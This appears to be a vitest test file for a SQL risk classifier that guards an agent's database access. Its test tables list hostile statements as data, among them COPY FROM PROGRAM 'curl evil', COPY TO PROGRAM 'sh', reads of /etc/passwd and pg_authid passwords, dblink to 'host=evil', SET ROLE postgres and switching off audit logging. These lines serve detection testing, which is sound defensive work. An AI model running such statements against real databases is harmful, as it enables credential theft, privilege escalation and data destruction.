import { beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { classifySql, fingerprintSql, loadSqlClassifier, normalizeSql } from './classify.js';
import { sessionStateEffects } from './session-effects.js';

beforeAll(async () => {
  await loadSqlClassifier();
});

/** [sql, action, risk] — the contract's table of actions and risks (CONTRACT §2). */
const TABLE: readonly (readonly [string, string, string])[] = [
  // reads
  ['SELECT 1', 'read', 'low'],
  ['SELECT * FROM orders WHERE id = 7', 'read', 'low'],
  ['select a.id, b.total from accounts a join invoices b on b.account_id = a.id', 'read', 'low'],
  ['SELECT count(*) FROM (SELECT * FROM orders) o', 'read', 'low'],
  ['WITH t AS (SELECT * FROM orders) SELECT * FROM t', 'read', 'low'],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', 'read', 'low'],
  ['SELECT * FROM orders UNION SELECT * FROM archived_orders', 'read', 'low'],
  ['TABLE orders', 'read', 'low'],
  ['VALUES (1), (2)', 'read', 'low'],
  ['SHOW search_path', 'read', 'low'],
  ['EXPLAIN SELECT * FROM orders', 'read', 'low'],
  ['EXPLAIN DELETE FROM orders', 'read', 'low'],
  ['EXPLAIN (ANALYZE false) DELETE FROM orders', 'read', 'low'],
  ['EXPLAIN ANALYZE SELECT * FROM orders', 'read', 'low'],
  ['BEGIN', 'read', 'low'],
  ['BEGIN READ ONLY', 'read', 'low'],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', 'read', 'low'],
  ['COMMIT', 'read', 'low'],
  ['ROLLBACK', 'read', 'low'],
  ['SAVEPOINT s1', 'read', 'low'],
  ['RELEASE SAVEPOINT s1', 'read', 'low'],
  ['ROLLBACK TO SAVEPOINT s1', 'read', 'low'],
  ['SET TRANSACTION READ ONLY', 'read', 'low'],
  ['SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'read', 'low'],
  ['SET search_path = app, public', 'read', 'low'],
  ['SET statement_timeout = 5000', 'read', 'low'],
  ["SET application_name = 'agent'", 'read', 'low'],
  ['RESET statement_timeout', 'read', 'low'],
  ["SELECT set_config('application_name', 'x', false)", 'read', 'low'],
  ["SELECT set_config('application_name', $1::text, false), setseed(0.5)", 'read', 'low'],
  ["SET client_encoding = 'UTF8'", 'read', 'low'],
  // The proxy converts at its edge: a SET of client_encoding never reaches the target as written.
  ["SET client_encoding = 'SJIS'", 'read', 'low'],
  ["SET NAMES 'GBK'", 'read', 'low'],
  ['SET client_encoding TO DEFAULT', 'read', 'low'],
  ["SET NAMES 'utf-8'", 'read', 'low'],
  ["SELECT current_setting('search_path')", 'read', 'low'],
  ['SHOW TimeZone', 'read', 'low'],
  ["SELECT current_setting('server_version_num')", 'read', 'low'],
  // currval reads a sequence by name: not on the catalogue, so it may do anything (closed by default).
  ['SELECT currval(\'orders_id_seq\')', 'write', 'high'],
  ['DECLARE c CURSOR FOR SELECT * FROM orders', 'read', 'low'],
  ['FETCH 10 FROM c', 'read', 'low'],
  ['CLOSE c', 'read', 'low'],
  ['LISTEN events', 'read', 'low'],
  ['UNLISTEN *', 'read', 'low'],
  ['COPY orders TO STDOUT', 'read', 'low'],
  ['COPY (SELECT * FROM orders) TO STDOUT WITH CSV', 'read', 'low'],
  ['PREPARE q AS SELECT * FROM orders WHERE id = $1', 'read', 'low'],
  ['DEALLOCATE q', 'read', 'low'],
  ['DISCARD PLANS', 'read', 'low'],
  ['SET CONSTRAINTS ALL DEFERRED', 'read', 'low'],
  // writes
  ["INSERT INTO orders (id, total) VALUES (1, 10)", 'write', 'medium'],
  ['INSERT INTO orders SELECT * FROM staging ON CONFLICT DO NOTHING', 'write', 'medium'],
  ['UPDATE orders SET total = 0 WHERE id = 1', 'write', 'medium'],
  ['UPDATE orders SET total = 0', 'write', 'high'],
  ['UPDATE orders SET total = 0 WHERE true', 'write', 'high'],
  ['DELETE FROM orders WHERE id = 1', 'write', 'medium'],
  // Attribute notation: orders.num_nonnulls is num_nonnulls(orders), 1 for every row.
  ['DELETE FROM orders WHERE orders.num_nonnulls = 1', 'write', 'high'],
  ["UPDATE orders o SET total = 0 WHERE o.pg_typeof = 'orders'::regtype", 'write', 'high'],
  ['DELETE FROM orders', 'write', 'high'],
  ['DELETE FROM orders WHERE 1 = 1', 'write', 'high'],
  // ON o.id = s.id matches whatever the staging table holds, possibly every order: not bounded.
  ['MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total', 'write', 'high'],
  ['MERGE INTO orders o USING staging s ON o.id = 7 WHEN MATCHED THEN UPDATE SET total = s.total', 'write', 'medium'],
  ['WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d', 'write', 'medium'],
  ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'write', 'high'],
  ['SELECT * FROM (SELECT 1) x WHERE EXISTS (SELECT 1 FROM orders)', 'read', 'low'],
  ['WITH u AS (UPDATE orders SET total = 1 WHERE id = 2 RETURNING id) SELECT * FROM u', 'write', 'medium'],
  ['SELECT * INTO orders_copy FROM orders', 'write', 'medium'],
  ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', 'write', 'medium'],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 1', 'write', 'high'],
  // The server keeps the last ANALYZE option: any one that is not false runs the statement.
  ['EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM orders', 'write', 'high'],
  ['EXPLAIN (ANALYZE off, BUFFERS, ANALYZE) DELETE FROM orders WHERE id = 1', 'write', 'medium'],
  ['EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM orders WHERE id = 1', 'write', 'medium'],
  ['COPY orders FROM STDIN', 'write', 'medium'],
  ['COPY orders (id, total) FROM STDIN WITH (FORMAT csv)', 'write', 'medium'],
  // A procedure's body is not known: it may read or write any table, so the call is high risk.
  ['CALL archive_orders(30)', 'write', 'high'],
  ['LOCK TABLE orders IN ACCESS EXCLUSIVE MODE', 'write', 'medium'],
  ['SELECT * FROM orders FOR UPDATE', 'write', 'medium'],
  ['BEGIN READ WRITE', 'write', 'medium'],
  ['START TRANSACTION READ WRITE', 'write', 'medium'],
  ['SET TRANSACTION READ WRITE', 'write', 'medium'],
  ["SELECT nextval('orders_id_seq')", 'write', 'medium'],
  ["SELECT setval('orders_id_seq', 100)", 'write', 'medium'],
  ['NOTIFY events', 'write', 'medium'],
  ["SELECT pg_notify('events', 'x')", 'write', 'medium'],
  // ddl
  ['CREATE TABLE t (id int)', 'ddl', 'medium'],
  ['CREATE TABLE t2 AS SELECT * FROM orders', 'ddl', 'medium'],
  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM orders', 'ddl', 'medium'],
  ['CREATE VIEW v AS SELECT * FROM orders', 'ddl', 'medium'],
  ['CREATE INDEX ON orders (total)', 'ddl', 'medium'],
  ['ALTER TABLE orders ADD COLUMN note text', 'ddl', 'medium'],
  ['ALTER TABLE orders DROP COLUMN note', 'ddl', 'high'],
  ['ALTER TABLE orders RENAME TO orders2', 'ddl', 'medium'],
  ['DROP TABLE orders', 'ddl', 'high'],
  ['DROP INDEX orders_total_idx', 'ddl', 'high'],
  ['TRUNCATE orders', 'ddl', 'high'],
  ["COMMENT ON TABLE orders IS 'x'", 'ddl', 'medium'],
  ['REINDEX TABLE orders', 'ddl', 'medium'],
  ['VACUUM orders', 'ddl', 'medium'],
  ['ANALYZE orders', 'ddl', 'medium'],
  ['CLUSTER orders USING orders_pkey', 'ddl', 'medium'],
  ['REFRESH MATERIALIZED VIEW mv', 'ddl', 'medium'],
  ['CREATE SEQUENCE s', 'ddl', 'medium'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'ddl', 'medium'],
  ['CREATE SCHEMA app', 'ddl', 'medium'],
  ["CREATE TYPE mood AS ENUM ('sad', 'ok')", 'ddl', 'medium'],
  ['CREATE TRIGGER trg BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()', 'ddl', 'medium'],
  // admin
  ['CREATE ROLE intruder', 'admin', 'critical'],
  ['ALTER ROLE agent SUPERUSER', 'admin', 'critical'],
  ['DROP ROLE agent', 'admin', 'critical'],
  ['GRANT SELECT ON orders TO agent', 'admin', 'critical'],
  ['REVOKE ALL ON orders FROM agent', 'admin', 'critical'],
  ['GRANT admin TO agent', 'admin', 'critical'],
  ['SET ROLE postgres', 'admin', 'critical'],
  ['SET LOCAL ROLE postgres', 'admin', 'critical'],
  ['RESET ROLE', 'admin', 'critical'],
  ['SET SESSION AUTHORIZATION postgres', 'admin', 'critical'],
  ['RESET SESSION AUTHORIZATION', 'admin', 'critical'],
  ["SELECT set_config('role', 'postgres', false)", 'admin', 'critical'],
  ["SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)", 'admin', 'critical'],
  ['SELECT set_config(current_user, \'x\', false)', 'admin', 'critical'],
  // the server's lexer state is not the agent's to change (issue #9, finding 1)
  ['SET standard_conforming_strings = off', 'admin', 'critical'],
  ['SET LOCAL standard_conforming_strings TO off', 'admin', 'critical'],
  ['set standard_conforming_strings = on', 'admin', 'critical'],
  ['RESET standard_conforming_strings', 'admin', 'critical'],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", 'admin', 'critical'],
  ["SELECT set_config('Standard_Conforming_Strings', 'off', true)", 'admin', 'critical'],
  ['SET backslash_quote = on', 'admin', 'critical'],
  ["SELECT set_config('client_encoding', 'BIG5', false)", 'admin', 'critical'],
  ['ALTER ROLE agent SET standard_conforming_strings = off', 'admin', 'critical'],
  ['ALTER DATABASE shop SET standard_conforming_strings = off', 'admin', 'critical'],
  ['SET default_transaction_read_only = off', 'admin', 'critical'],
  ['SET transaction_read_only = off', 'admin', 'critical'],
  ['RESET default_transaction_read_only', 'admin', 'critical'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'admin', 'critical'],
  ['RESET ALL', 'admin', 'critical'],
  ['DISCARD ALL', 'admin', 'critical'],
  ["ALTER SYSTEM SET log_statement = 'none'", 'admin', 'critical'],
  ["SET log_statement = 'none'", 'admin', 'critical'],
  ['SELECT rolname, rolpassword FROM pg_authid', 'admin', 'critical'],
  ['SELECT umoptions FROM pg_catalog.pg_user_mappings', 'admin', 'critical'],
  ['SELECT rolname FROM pg_roles', 'read', 'low'],
  ["SET pgaudit.log = 'none'", 'admin', 'critical'],
  ["SELECT set_config('app.tenant', 'x', false)", 'admin', 'critical'],
  // Settings that may hold a credential (a standby's primary_conninfo with the replication password).
  ['SHOW primary_conninfo', 'admin', 'critical'],
  ['SHOW ALL', 'admin', 'critical'],
  ["SELECT current_setting('Primary_Conninfo')", 'admin', 'critical'],
  ["SELECT current_setting('restore_command', true)", 'admin', 'critical'],
  ['SELECT current_setting(name) FROM people', 'admin', 'critical'],
  ["SELECT setting FROM pg_settings WHERE name = 'primary_conninfo'", 'admin', 'critical'],
  ['SELECT * FROM pg_catalog.pg_file_settings', 'admin', 'critical'],
  // A value computed at run time outlives the statement's masking in the session (SHOW, random()).
  ["SELECT set_config('application_name', ssn, false) FROM people", 'admin', 'critical'],
  ["SELECT set_config('statement_timeout', split_part(ssn, '-', 1), false) FROM people", 'admin', 'critical'],
  ['SELECT setseed(length(ssn) / 100.0) FROM people', 'admin', 'critical'],
  ['RESET work_mem', 'admin', 'critical'],
  ["SET TIME ZONE 'UTC'", 'read', 'low'],
  ['SET DateStyle = ISO', 'read', 'low'],
  ["COPY orders TO '/tmp/orders.csv'", 'admin', 'critical'],
  ["COPY orders FROM '/etc/passwd'", 'admin', 'critical'],
  ["COPY orders FROM PROGRAM 'curl evil'", 'admin', 'critical'],
  ["COPY (SELECT 1) TO PROGRAM 'sh'", 'admin', 'critical'],
  ["DO $$ BEGIN DELETE FROM orders; END $$", 'admin', 'critical'],
  ["SELECT pg_read_file('/etc/passwd')", 'admin', 'critical'],
  ["SELECT lo_import('/etc/passwd')", 'admin', 'critical'],
  ["SELECT lo_export(1234, '/tmp/x')", 'admin', 'critical'],
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'admin', 'critical'],
  ['SELECT pg_cancel_backend(42)', 'admin', 'critical'],
  ['SELECT pg_reload_conf()', 'admin', 'critical'],
  ['SELECT pg_rotate_logfile()', 'admin', 'critical'],
  ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", 'admin', 'critical'],
  ["SELECT dblink_exec('host=evil', 'DROP TABLE x')", 'admin', 'critical'],
  ["SELECT * FROM orders WHERE id = (SELECT pg_terminate_backend(1)::int)", 'admin', 'critical'],
  ["SELECT length(lo_get(1))", 'admin', 'critical'],
  ["SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')", 'admin', 'critical'],
  ['CREATE EXTENSION dblink', 'admin', 'critical'],
  ['DROP EXTENSION dblink', 'admin', 'critical'],
  ['ALTER TABLE orders OWNER TO intruder', 'admin', 'critical'],
  ["LOAD 'auto_explain'", 'admin', 'critical'],
  ['CHECKPOINT', 'admin', 'critical'],
  ['CREATE DATABASE other', 'admin', 'critical'],
  ['DROP DATABASE other', 'admin', 'critical'],
  ["PREPARE TRANSACTION 'gx'", 'admin', 'critical'],
  ["COMMIT PREPARED 'gx'", 'admin', 'critical'],
  ['EXECUTE unknown_statement', 'admin', 'critical'],
  ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw", 'admin', 'critical'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO agent', 'admin', 'critical'],
  ['REASSIGN OWNED BY agent TO postgres', 'admin', 'critical'],
  // several statements: the widest part
  ['SELECT 1; DELETE FROM orders WHERE id = 1', 'write', 'medium'],
  ['SELECT 1; DROP TABLE orders', 'ddl', 'high'],
  ['BEGIN; SET ROLE postgres; COMMIT', 'admin', 'critical'],
];

describe('classifySql over the contract table', () => {
  it('has at least 80 statements', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(80);
  });
  it.each(TABLE)('classifies %s as %s/%s', (sql, action, risk) => {
    const result = classifySql(sql);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect({ action: result.action, risk: result.risk }).toEqual({ action, risk });
  });
});

describe('a write is medium risk only when its WHERE picks the target rows by constants', () => {
  const BOUNDED: readonly string[] = [
    'DELETE FROM victim WHERE id = 1',
    'DELETE FROM victim WHERE 1 = id',
    'DELETE FROM victim WHERE id = -1',
    "DELETE FROM victim WHERE email = 'a@b.c'",
    'DELETE FROM victim WHERE id = NULL',
    "DELETE FROM victim WHERE id = '5'::int",
    'DELETE FROM victim WHERE id = $1',
    'DELETE FROM victim WHERE id = $1::bigint',
    'DELETE FROM victim WHERE id IN (1, 2, $3)',
    'DELETE FROM victim WHERE id = ANY($1)',
    "DELETE FROM victim WHERE id = ANY('{1,2}')",
    'DELETE FROM victim WHERE id = ANY(ARRAY[1, 2])',
    'DELETE FROM victim WHERE id OPERATOR(pg_catalog.=) 1',
    'DELETE FROM victim WHERE id = 1 AND (true OR x = x)',
    'DELETE FROM victim WHERE x > 0 AND (id = 1 AND y IS NOT NULL)',
    'DELETE FROM victim WHERE CURRENT OF c',
    'DELETE FROM victim v WHERE v.id = 1',
    'DELETE FROM public.victim WHERE public.victim.id = 1',
    'DELETE FROM victim v USING other o WHERE v.id = 1 AND o.id = v.id',
    'DELETE FROM ONLY victim WHERE id = 1',
    'UPDATE victim SET x = 0 WHERE id = 1',
    'UPDATE victim t SET x = o.x FROM other o WHERE t.id = $1 AND o.id = t.id',
    'WITH d AS (DELETE FROM victim WHERE id = 1 RETURNING *) SELECT * FROM d',
    'WITH u AS (UPDATE victim SET x = 1 WHERE id IN (1, 2) RETURNING *) SELECT * FROM u',
    'MERGE INTO victim t USING src s ON t.id = 7 WHEN MATCHED THEN DELETE',
    'MERGE INTO victim t USING src s ON t.id = s.id WHEN MATCHED AND t.id = 7 THEN DELETE',
    'MERGE INTO victim t USING src s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    'MERGE INTO victim t USING src s ON t.id = s.id WHEN MATCHED THEN DO NOTHING',
    'PREPARE p AS DELETE FROM victim WHERE id = $1',
    'INSERT INTO victim VALUES (1, 2), (3, 4) ON CONFLICT (id) DO UPDATE SET x = excluded.x',
    'INSERT INTO victim SELECT * FROM staging ON CONFLICT DO NOTHING',
    'INSERT INTO victim SELECT * FROM staging ON CONFLICT (id) DO UPDATE SET x = 0 WHERE victim.id = 7',
  ];
  const UNBOUNDED: readonly string[] = [
    'DELETE FROM victim',
    'DELETE FROM victim WHERE true',
    'DELETE FROM victim WHERE 1 = 1',
    'DELETE FROM victim WHERE NOT false',
    'DELETE FROM victim WHERE id = id',
    'DELETE FROM victim WHERE x = x',
    'DELETE FROM victim WHERE id IS NOT NULL',
    'DELETE FROM victim WHERE id > 0',
    'DELETE FROM victim WHERE id > -2147483648',
    'DELETE FROM victim WHERE id <> -1',
    'DELETE FROM victim WHERE id > 0 OR true',
    'DELETE FROM victim WHERE id = 1 OR true',
    'DELETE FROM victim WHERE id = 1 OR id = 2',
    'DELETE FROM victim WHERE NOT (id <> 1)',
    'DELETE FROM victim WHERE id BETWEEN -2147483648 AND 2147483647',
    'DELETE FROM victim WHERE id NOT IN (1)',
    'DELETE FROM victim WHERE id IN (SELECT id FROM victim)',
    'DELETE FROM victim WHERE id = ANY(SELECT id FROM victim)',
    'DELETE FROM victim WHERE id = (SELECT max(id) FROM victim)',
    'DELETE FROM victim WHERE EXISTS (SELECT 1)',
    'DELETE FROM victim WHERE id = 1 + 0',
    "DELETE FROM victim WHERE lower(email) = 'a@b.c'",
    "DELETE FROM victim WHERE id::text = '1'",
    'DELETE FROM victim WHERE id = abs(id)',
    'DELETE FROM victim WHERE id IS NOT DISTINCT FROM 1',
    'DELETE FROM victim WHERE (id = 1) = false',
    'DELETE FROM victim WHERE (id = 1) IS NOT TRUE',
    'DELETE FROM victim WHERE id = ANY(ARRAY[id])',
    'DELETE FROM victim WHERE id IN (1, id)',
    // system columns are shared by many rows: every row of the table has the same tableoid.
    "DELETE FROM victim WHERE tableoid = 'victim'::regclass",
    "DELETE FROM victim WHERE xmax = '0'",
    // with other relations in scope, an unqualified column may be theirs.
    'DELETE FROM victim USING other WHERE id = 1',
    'UPDATE victim SET x = 0 FROM other WHERE id = 1',
    'DELETE FROM victim v USING other o WHERE o.id = 1',
    'UPDATE victim v SET x = o.x FROM other o WHERE v.id = o.id AND o.id = 1',
    // the target is only reachable through its alias; `victim.id` here is the USING relation's.
    'DELETE FROM victim v USING victim WHERE victim.id = 1',
    'DELETE FROM victim WHERE other.victim.id = 1',
    'UPDATE victim SET x = 0 WHERE true',
    'WITH d AS (DELETE FROM victim WHERE id = id RETURNING *) SELECT * FROM d',
    'WITH u AS (UPDATE victim SET x = 1 WHERE x > 0 RETURNING *) SELECT count(*) FROM u',
    'MERGE INTO victim t USING src s ON t.id = s.id WHEN MATCHED THEN DELETE',
    'MERGE INTO victim t USING src s ON true WHEN MATCHED THEN UPDATE SET x = 1',
    'MERGE INTO victim t USING src s ON id = 7 WHEN MATCHED THEN DELETE',
    'MERGE INTO victim t USING src s ON s.id = 7 WHEN MATCHED THEN DELETE',
    // NOT MATCHED BY SOURCE acts on every target row the ON condition does not pick.
    'MERGE INTO victim t USING src s ON t.id = 7 WHEN NOT MATCHED BY SOURCE THEN DELETE',
    'MERGE INTO victim t USING src s ON t.id = 7 WHEN MATCHED THEN DELETE WHEN NOT MATCHED BY SOURCE THEN UPDATE SET x = 1',
    'PREPARE p AS DELETE FROM victim WHERE id = id',
    'EXPLAIN ANALYZE DELETE FROM victim WHERE id = id',
    // each row the query yields may update an existing one: the whole table, from itself.
    'INSERT INTO victim SELECT * FROM victim ON CONFLICT (id) DO UPDATE SET x = 0',
    'INSERT INTO victim SELECT * FROM victim ON CONFLICT (id) DO UPDATE SET x = 0 WHERE excluded.id = 7',
    'INSERT INTO victim VALUES (1, 2) UNION ALL SELECT * FROM victim ON CONFLICT (id) DO UPDATE SET x = 0',
  ];
  it.each(BOUNDED)('%s is a bounded write (medium)', (sql) => {
    const result = classifySql(sql);
    expect(result.ok && [result.action, result.risk]).toEqual(['write', 'medium']);
  });
  it.each(UNBOUNDED)('%s is an unbounded write (high)', (sql) => {
    const result = classifySql(sql);
    expect(result.ok && [result.action, result.risk]).toEqual(['write', 'high']);
  });
  it('classifies a statement differing only in constants the same way, as the decision cache assumes', () => {
    for (const sql of [...BOUNDED, ...UNBOUNDED]) {
      const normalized = normalizeSql(sql);
      if (normalized === undefined || normalized === sql) continue;
      const [original, withParameters] = [classifySql(sql), classifySql(normalized)];
      expect(withParameters.ok && withParameters.risk, sql).toBe(original.ok && original.risk);
    }
  });
});

describe('no false positives', () => {
  it.each([
    "SELECT 'DROP TABLE orders; DELETE FROM orders'",
    "SELECT * FROM orders WHERE note = 'delete from orders'",
    '/* DROP TABLE orders */ SELECT 1',
    '-- DELETE FROM orders\nSELECT 1',
    'SELECT "drop", "delete" FROM "truncate"',
    'SELECT $$DROP TABLE orders$$',
    'SELECT $body$ DELETE FROM orders; GRANT ALL ON orders TO x $body$ AS text',
    "SELECT E'\\'; DROP TABLE orders; --'",
    "SELECT 'pg_terminate_backend(1)'",
    'SELECT deleted, dropped FROM audit_log WHERE updated_at > now()',
  ])('reads when DROP/DELETE only appears in literals, comments or identifiers: %s', (sql) => {
    const result = classifySql(sql);
    expect(result.ok && result.action).toBe('read');
  });
});

describe('tables', () => {
  it('resolves unqualified names against the search path and skips CTE names', () => {
    const result = classifySql('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent JOIN billing.invoices i ON true', { searchPath: ['"$user"', 'shop'] });
    expect(result.ok && result.tables).toEqual(['billing.invoices', 'shop.orders']);
  });
  it('reports an unqualified name in every schema of the path, since the first that holds it is read', () => {
    const result = classifySql('SELECT * FROM orders', { searchPath: ['pg_catalog', 'secret', 'public'] });
    expect(result.ok && result.tables).toEqual(['public.orders', 'secret.orders']);
  });
  it('resolves unqualified names to public when no search path is given', () => {
    const result = classifySql('DELETE FROM orders WHERE id IN (SELECT order_id FROM refunds)');
    expect(result.ok && result.statements[0]).toMatchObject({ writes: ['public.orders'], reads: ['public.refunds'] });
  });
  it('a non-recursive CTE does not hide a real table of the same name used before it', () => {
    const result = classifySql('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b');
    expect(result.ok && result.tables).toEqual(['public.b']);
  });
  it('reports the tables a DROP or TRUNCATE removes', () => {
    const result = classifySql('DROP TABLE app.orders, refunds; TRUNCATE ledger');
    expect(result.ok && result.tables).toEqual(['app.orders', 'public.ledger', 'public.refunds']);
  });
  it.each([
    ["COMMENT ON TABLE public.secrets IS 'x'", ['public.secrets']],
    ["COMMENT ON TABLE secrets IS 'x'", ['public.secrets']],
    ["COMMENT ON COLUMN public.secrets.secret IS 'x'", ['public.secrets']],
    ['COMMENT ON COLUMN secrets.secret IS NULL', ['public.secrets']],
    ["COMMENT ON CONSTRAINT c ON app.secrets IS 'x'", ['app.secrets']],
    ["COMMENT ON TRIGGER t ON secrets IS 'x'", ['public.secrets']],
    ["COMMENT ON POLICY p ON secrets IS 'x'", ['public.secrets']],
    ["COMMENT ON RULE r ON secrets IS 'x'", ['public.secrets']],
    ["COMMENT ON VIEW app.v IS 'x'", ['app.v']],
    ["COMMENT ON MATERIALIZED VIEW mv IS 'x'", ['public.mv']],
    ["COMMENT ON FOREIGN TABLE ft IS 'x'", ['public.ft']],
    ["COMMENT ON SEQUENCE s IS 'x'", ['public.s']],
    ["COMMENT ON INDEX app.i IS 'x'", ['app.i']],
    ["SECURITY LABEL ON TABLE secrets IS 'x'", ['public.secrets']],
    ["SECURITY LABEL FOR p ON COLUMN app.secrets.secret IS 'x'", ['app.secrets']],
    ['ALTER EXTENSION e ADD TABLE secrets', ['public.secrets']],
    ['ALTER EXTENSION e DROP VIEW app.v', ['app.v']],
    ['ALTER TABLE secrets SET SCHEMA app', ['public.secrets']],
    ['ALTER TABLE secrets RENAME COLUMN secret TO s', ['public.secrets']],
    ['ALTER TRIGGER t ON secrets RENAME TO u', ['public.secrets']],
    ['ALTER POLICY p ON secrets USING (true)', ['public.secrets']],
    ['ALTER RULE r ON secrets RENAME TO r2', ['public.secrets']],
    ['ALTER INDEX app.i RENAME TO j', ['app.i']],
    ['ALTER SEQUENCE s RESTART', ['public.s']],
    ['ALTER TRIGGER t ON secrets DEPENDS ON EXTENSION e', ['public.secrets']],
    ['ALTER TABLE secrets OWNER TO x', ['public.secrets']],
  ])('reports the table that %s acts on, so a `tables` rule holds it', (sql, tables) => {
    const result = classifySql(sql);
    expect(result.ok && result.tables).toEqual(tables);
  });
  it.each([
    'SELECT rolname, rolconfig FROM pg_roles',
    'SELECT * FROM pg_options_to_table((SELECT rolconfig FROM pg_catalog.pg_roles LIMIT 1))',
    'SELECT * FROM pg_roles',
    'SELECT r.* FROM pg_roles r',
    'SELECT to_jsonb(r) FROM pg_roles r',
    'SELECT (r).rolname FROM pg_roles r',
    'SELECT cfg FROM pg_roles AS r(a, b, c, d, e, f, g, h, i, j, k, cfg)',
    'SELECT * FROM (SELECT * FROM pg_roles) s',
  ])('counts %s as reading pg_db_role_setting (rolconfig holds every role’s settings)', (sql) => {
    const result = classifySql(sql);
    expect(result.ok && result.tables).toEqual(['pg_catalog.pg_db_role_setting', 'pg_catalog.pg_roles']);
  });
  it.each([
    ['SELECT chunk_data FROM pg_toast.pg_toast_16384', undefined],
    ['SELECT chunk_data FROM pg_toast_16384', ['pg_toast', 'public']],
  ])('counts a TOAST table, %s, as reading any table (it holds another table’s values)', (sql, searchPath) => {
    const result = classifySql(sql, searchPath ? { searchPath } : {});
    expect(result.ok && result.tables).toContain('*');
  });
  it('counts \\du’s columns of pg_roles as pg_roles only', () => {
    const result = classifySql(
      "SELECT r.rolname, r.rolsuper, ARRAY(SELECT b.rolname FROM pg_catalog.pg_auth_members m JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid) WHERE m.member = r.oid) AS memberof FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1",
    );
    expect(result.ok && result.tables).toEqual(['pg_catalog.pg_auth_members', 'pg_catalog.pg_roles']);
  });
  it.each(["COMMENT ON SCHEMA app IS 'x'", "COMMENT ON FUNCTION f() IS 'x'", "COMMENT ON TYPE mood IS 'x'"])('reports no table for %s, which names none', (sql) => {
    const result = classifySql(sql);
    expect(result.ok && result.tables).toEqual([]);
  });
  it('reports the functions a statement calls', () => {
    const result = classifySql("SELECT lower(name), pg_catalog.now() FROM users");
    expect(result.ok && result.statements[0]!.functions).toEqual(['lower', 'pg_catalog.now']);
  });
});

describe('prepared statements', () => {
  it('EXECUTE carries the action of the statement prepared under that name', () => {
    const prepared = new Map([['wipe', 'PREPARE wipe AS DELETE FROM orders']]);
    const result = classifySql('EXECUTE wipe', { preparedStatements: prepared });
    expect(result.ok && [result.action, result.risk, result.tables, result.cacheable]).toEqual(['write', 'high', ['public.orders'], false]);
  });
  it('EXECUTE accepts the prepared body recorded without PREPARE', () => {
    const result = classifySql('EXECUTE q(1)', { preparedStatements: new Map([['q', 'SELECT * FROM orders WHERE id = $1']]) });
    expect(result.ok && result.action).toBe('read');
  });
  it('PREPARE reports the name it prepares and the action of its body', () => {
    const result = classifySql('PREPARE wipe AS DELETE FROM orders WHERE id = $1');
    expect(result.ok && result.statements[0]).toMatchObject({ prepares: 'wipe', action: 'write' });
  });
  it('DEALLOCATE ALL reports every name', () => {
    const result = classifySql('DEALLOCATE ALL');
    expect(result.ok && result.statements[0]!.deallocates).toBe('*');
  });
});

describe('cacheability', () => {
  it.each(['BEGIN READ WRITE', "SELECT set_config('role', 'x', false)", "SELECT current_setting('application_name')", 'SET statement_timeout = 1', 'EXECUTE p', "COPY t FROM '/x'", 'EXPLAIN (ANALYZE off) DELETE FROM t'])(
    'is not cacheable when constants decide: %s',
    (sql) => {
      const result = classifySql(sql);
      expect(result.ok && result.cacheable).toBe(false);
    },
  );
  it('is cacheable for plain statements, whose decision does not depend on constants', () => {
    const result = classifySql("SELECT * FROM orders WHERE email = 'a@b.c'");
    expect(result.ok && result.cacheable).toBe(true);
  });
  it('normalizes statements that differ only in constants to the same text', () => {
    expect(normalizeSql('SELECT * FROM t WHERE a = 1')).toBe(normalizeSql('SELECT * FROM t WHERE a = 2'));
    expect(fingerprintSql('SELECT * FROM t WHERE a = 1')).toBe(fingerprintSql('SELECT * FROM t WHERE a = 99'));
    expect(fingerprintSql('SELEC')).toBeUndefined();
  });
});

describe('failures', () => {
  it('returns the parser message when the text does not parse', () => {
    const result = classifySql('SELEC * FROM orders');
    expect(result.ok).toBe(false);
    expect(!result.ok && result.error).toMatch(/syntax error/);
  });
  it('treats an empty query as a read with no statements', () => {
    const result = classifySql('  ');
    expect(result.ok && result.statements).toEqual([]);
  });
  it('never throws on random SQL-ish text, and anything unparseable is { ok: false }', () => {
    const words = fc.constantFrom('SELECT', 'DELETE', 'FROM', 'WHERE', 'DROP', 'TABLE', ';', '(', ')', "'", '$$', '--', '/*', '*/', 'x', '1', ',', '=', 'WITH', 'AS', 'INTO', '"', 'COPY', 'SET', 'ROLE');
    const sqlish = fc.oneof(fc.array(words, { maxLength: 12 }).map((parts) => parts.join(' ')), fc.string({ maxLength: 60 }));
    fc.assert(
      fc.property(sqlish, (text) => {
        const result = classifySql(text);
        if (!result.ok) expect(typeof result.error).toBe('string');
        else expect(['read', 'write', 'ddl', 'admin']).toContain(result.action);
      }),
      { numRuns: 500 },
    );
  });
});

describe('sessionStateEffects: what may change search_path, read from the parse tree', () => {
  it.each([
    "SET SCHEMA 'secret'",
    'SET U&"search\\005fpath" TO secret',
